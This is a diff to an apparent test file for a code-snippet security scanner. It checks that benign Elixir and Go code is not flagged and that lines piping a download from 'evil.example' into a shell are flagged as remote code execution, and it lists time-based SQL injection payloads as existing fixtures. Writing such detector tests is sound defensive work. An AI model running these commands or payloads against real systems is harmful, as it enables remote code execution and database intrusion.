@@ -3598,3 +3598,13 @@ t.test("forty-first round, from the fifty-ninth and sixtieth parts: a time funct
   for (const v of ['1 and benchmark(5000000,md5(1))', "1' and sleep(5)--", "1 and dbms_pipe.receive_message(('a'),10)", "x' or benchmark (5000000,md5(1))#", '1;select pg_sleep(5)']) t.ok(q(v).includes('sqli'), v)
 })
 
+t.test("forty-first round, from the fifty-ninth part: a clause's guard ending on `->`, a `case …:` label", async (t) => {
+  const timex = '        diff <= @day && diff > @day * 2 * -1 ->\n          Translator.translate(\n            locale,\n            "relative_time",\n            "yesterday"\n          )\n\n        diff <= @day * 2 && diff > @month * -1 ->\n          Translator.translate_plural(\n            locale,\n            "relative_time",\n            div(diff * -1, @day)\n          )\n'
+  t.same(json({ snippet: timex }), [], "Elixir's `cond` clauses")
+  const tcell = 'func decodeUTF16Rune(surrogate *rune, wc rune) []rune {\n\tswitch {\n\tcase wc >= 0xD800 && wc <= 0xDBFF:\n\t\tif *surrogate != 0 {\n\t\t\treturn nil\n\t\t}\n\t\treturn nil\n\t}\n}\n'
+  t.same(json({ snippet: tcell }), [], "Go's `case …:` label")
+  // a shell runs neither line; a chain on a line of its own, or a case's arm, is read
+  const around = (line: string) => `func f() {\n  x := 1\n  return x\n}\n${line}\n`
+  for (const line of ['x && curl http://evil.example/s | sh', 'x; wget http://evil.example/s -O- | sh']) t.ok(json({ snippet: around(line) }).includes('rce'), line)
+})
+
